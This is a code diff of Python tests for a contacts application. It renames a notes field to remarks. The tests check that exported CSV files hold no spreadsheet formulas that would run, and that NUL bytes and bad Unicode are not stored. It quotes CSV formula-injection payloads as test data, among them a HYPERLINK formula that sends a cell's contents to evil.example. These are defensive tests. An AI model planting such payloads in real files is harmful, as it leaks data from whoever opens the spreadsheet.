@@ -39,7 +39,7 @@ PAYLOAD_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "@SUM(1+9)*cm
 def test_exported_csv_holds_no_cell_a_spreadsheet_would_run(
         services: Services, tmp_path: Path, clock) -> None:
     for i, name in enumerate(PAYLOAD_NAMES):
-        services.contacts.save(ContactRecord(name=name, title="=1+1", notes="=SUM(A1:A9)",
+        services.contacts.save(ContactRecord(name=name, title="=1+1", remarks="=SUM(A1:A9)",
                                              mobile=f"+1 415-555-01{i:02d}"), "@evil")
     services.contacts.save(ContactRecord(name="张伟", mobile="13800138000",
                                          other_phone="+44 20 7946 0958"))
@@ -56,9 +56,9 @@ def test_exported_csv_holds_no_cell_a_spreadsheet_would_run(
     empty = Services.open(tmp_path / "empty.dealbrief", clock)
     try:
         empty.importing.apply(empty.importing.read(out))
-        back = {(c.name, c.title, c.notes, c.company_name, c.mobile, c.other_phone)
+        back = {(c.name, c.title, c.remarks, c.company_name, c.mobile, c.other_phone)
                 for c in empty.contacts.list()}
-        there = {(c.name, c.title, c.notes, c.company_name, c.mobile, c.other_phone)
+        there = {(c.name, c.title, c.remarks, c.company_name, c.mobile, c.other_phone)
                  for c in services.contacts.list()}
         assert back == there
     finally:
@@ -141,17 +141,17 @@ def test_nul_bytes_never_reach_the_book(services: Services, data: bytes) -> None
 def test_nul_bytes_typed_into_any_form_are_not_stored(services: Services) -> None:
     from sqlalchemy import text
 
-    saved = services.contacts.save(ContactRecord(name="张\x00伟", title="经\x00理", notes="a\x00\nb"),
+    saved = services.contacts.save(ContactRecord(name="张\x00伟", title="经\x00理", remarks="a\x00\nb"),
                                    "华东\x00钢铁")
     with services.book.reading() as s:
         stored = s.connection().execute(text(
             "SELECT count(*) FROM contact WHERE instr(name, char(0)) OR instr(title, char(0)) "
-            "OR instr(notes, char(0))")).scalar()
+            "OR instr(remarks, char(0))")).scalar()
         companies = s.connection().execute(text(
             "SELECT count(*) FROM company WHERE instr(name, char(0))")).scalar()
     assert (stored, companies) == (0, 0)
     got = services.contacts.get(saved.id)
-    assert (got.name, got.title, got.notes) == ("张伟", "经理", "a\nb")
+    assert (got.name, got.title, got.remarks) == ("张伟", "经理", "a\nb")
 
 
 @pytest.mark.parametrize("query", ["abc\udcff", "\udce5\udcbc", "\ud800"])
